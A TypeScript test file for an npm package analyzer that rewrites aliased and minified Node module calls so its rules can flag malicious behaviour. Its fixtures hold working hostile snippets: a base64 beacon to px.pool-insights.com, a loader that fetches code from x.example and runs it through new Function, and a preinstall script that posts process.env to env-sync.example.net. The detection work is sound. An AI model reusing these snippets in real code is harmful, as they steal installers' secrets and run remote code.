// Node's modules under names of the file's choosing, read as the modules' names: the bindings found, the view's text
// and its offsets mapped back, and the rules finding minified calls through it.
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { REPO_ROOT } from '../../../../test/corpora.js';
import { releaseOf } from '../release.fixture.js';
import type { AnalyzerContext } from '../types.js';
import { aliasedView, compiledCallEdits, memberAliases, moduleAliases, rewrittenView, sinkAliasEdits } from './aliases.js';
import { analyzeSource } from './index.js';

const ctx: AnalyzerContext = { resourcesDir: path.join(REPO_ROOT, 'resources'), internalNamespaces: [] };

describe('module aliases', () => {
  it('finds minified, compiled and imported bindings, not a module under its own name nor one that runs code', () => {
    const code = "const h=require('https'),o=require('os');\nvar import_fs = __toESM(require(\"fs\"));\nconst _net = _interopRequireDefault(require('node:net'));\nimport * as dns2 from 'dns';\nconst os = require('os');\nconst child_process_1 = require('child_process');\n";
    expect(Object.fromEntries(moduleAliases(code))).toEqual({ h: 'https', o: 'os', import_fs: 'fs', _net: 'net', dns2: 'dns' });
  });

  it('reads the functions a file takes out of a module by destructuring or a named import, not their definitions', () => {
    const code = "const { platform, hostname, userInfo: ui } = require('os');\nimport { request as r } from 'node:https';\nconst h = hostname();\nconst u = ui().username;\nr({ host: 'x' });\nfunction platform2() {}\nobj.hostname();\n";
    expect(Object.fromEntries(memberAliases(code))).toEqual({ platform: 'os.platform', hostname: 'os.hostname', ui: 'os.userInfo', r: 'https.request' });
    const view = aliasedView(code);
    expect(view?.text).toContain('const h = os.hostname();\nconst u = os.userInfo().username;\nhttps.request({ host');
    expect(view?.text).toContain('obj.hostname();');
    expect(view!.original(view!.text.indexOf('os.userInfo()'))).toBe(code.indexOf('ui()'));
    expect(aliasedView("const { hostname } = require('os');\nfunction hostname() {}\n")).toBeNull();
  });

  it("reads child_process's functions under a name of the file's own by their own names, also after a comma", () => {
    const code = 'const _0 = require("fs"), { exec: _4, spawn } = require("child_process");\nimport { execSync as run } from "node:child_process";\n_4(`python3 x`, () => {});\nrun("id");\n';
    expect(Object.fromEntries(memberAliases(code))).toEqual({ _4: 'exec', run: 'execSync' });
    expect(aliasedView(code)?.text).toContain('exec(`python3 x`, () => {});\nexecSync("id");');
  });

  it('writes compiled calls of imported functions as plain calls', () => {
    const code = 'const node_os_1 = require("node:os");\nconst h = (0, node_os_1.hostname)();\nconst u = (0,  _os.default.userInfo) ();\nf((0, x));\n';
    const view = rewrittenView(code, compiledCallEdits(code));
    expect(view.text).toBe('const node_os_1 = require("node:os");\nconst h = node_os_1.hostname();\nconst u = _os.default.userInfo ();\nf((0, x));\n');
    expect(aliasedView(view.text)?.text).toContain('const h = os.hostname();');
    expect(view.original(view.text.indexOf('node_os_1.hostname()'))).toBe(code.indexOf('(0, node_os_1.hostname)'));
    expect(compiledCallEdits('const a = (0, b);')).toEqual([]);
  });

  it('leaves a name bound to two different modules as written', () => {
    expect(moduleAliases("var a = require('os');\nfunction f() { var a = require('fs'); }\n").size).toBe(0);
  });

  it('writes uses as the module, keeps line breaks, and maps offsets back', () => {
    const code = "const h=require('https'),o=require('os');\nconst b = o.hostname();\nh.request({ host: x.h.y, path: '/' + b }).end();\nimport_x.default.y();\n";
    const view = aliasedView(code);
    expect(view?.text).toBe("const h=require('https'),o=require('os');\nconst b = os.hostname();\nhttps.request({ host: x.h.y, path: '/' + b }).end();\nimport_x.default.y();\n");
    expect(view?.text.split('\n').length).toBe(code.split('\n').length);
    const at = view!.text.indexOf('https.request');
    expect(view!.original(at)).toBe(code.indexOf('h.request'));
    expect(view!.original(view!.text.indexOf('.end()'))).toBe(code.indexOf('.end()'));
    const compiled = aliasedView('var import_os = __toESM(require("os"));\nimport_os.default.userInfo();\n');
    expect(compiled?.text).toContain('\nos.userInfo();');
  });

  it("writes a member named in brackets (`m['get']`) as the module's", () => {
    expect(aliasedView("const m = require('https');\nm['get']({ host: h }, cb)[\"on\"]('error', f);\nm[k]();\n")?.text).toBe("const m = require('https');\nhttps.get({ host: h }, cb)[\"on\"]('error', f);\nm[k]();\n");
  });

  it('binds a module whose name is joined from pieces, and reads the request made through it', () => {
    const diag = "const os = require('os');\nconst m = require(['ht', 'tps'].join(''));\nfunction once(cfg) {\n  const q = Buffer.from(JSON.stringify({ c: cfg.url, h: os.hostname() })).toString('base64');\n  m['get']({ host: 'px.pool-insights.com', path: '/p.gif?d=' + q });\n}\nmodule.exports = { once };\n";
    const out = analyzeSource(releaseOf('npm', { 'package.json': JSON.stringify({ name: 'x', main: 'diag.js' }), 'diag.js': diag }), ctx);
    expect(out.findings.find((f) => f.code === 'network_request')?.line).toBe(5);
  });

  it('reads the module loader under a guarded name of the file\'s own as require, and the code it fetches and runs', () => {
    const tail = 'var _r=typeof require==="function"?require:module.require.bind(module);\nsetTimeout(function(){_r("https").get({host:"x.example",path:"/b.js"},function(s){var d="";s.on("data",function(c){d+=c});s.on("end",function(){new Function("require",d)(_r)})})},3e3);\n';
    expect(sinkAliasEdits(tail).map((e) => e.text)).toEqual(['require']);
    expect(sinkAliasEdits('const load = module.require.bind(module);\nload("os");\n').map((e) => e.text)).toEqual(['require']);
    const out = analyzeSource(releaseOf('npm', { 'package.json': JSON.stringify({ name: 'x', main: 'b.min.js' }), 'b.min.js': tail }), ctx);
    expect(out.findings.filter((f) => f.severity === 'high').map((f) => f.code)).toContain('js_eval_fetched');
  });

  it('gives nothing for a file without aliases, and stays bounded on large input', () => {
    expect(aliasedView("const os = require('os');\nos.hostname();\n")).toBeNull();
    expect(aliasedView('')).toBeNull();
    const many = `const h=require('https');\n${'h.get(u);'.repeat(100_000)}`;
    expect(aliasedView(many)?.text.length).toBe(many.length + 4 * 100_000);
  });

  it('lets the rules read a minified install script that posts the environment through short names', () => {
    const env = "const h=require('https'),o=require('os');\nconst b=Buffer.from(JSON.stringify({h:o.hostname(),e:process.env})).toString('base64');\nconst r=h.request({hostname:'env-sync.example.net',method:'POST'},()=>{});r.write(b);r.end();\n";
    const out = analyzeSource(releaseOf('npm', { 'package.json': JSON.stringify({ name: 'x', scripts: { preinstall: 'node env.js' } }), 'env.js': env }, { scripts: { preinstall: 'node env.js' } }), ctx);
    const codes = out.findings.map((f) => f.code);
    expect(codes).toEqual(expect.arrayContaining(['collects_host_info', 'network_request', 'attack_chain']));
    expect(out.findings.find((f) => f.code === 'network_request')?.line).toBe(3);
  });
});
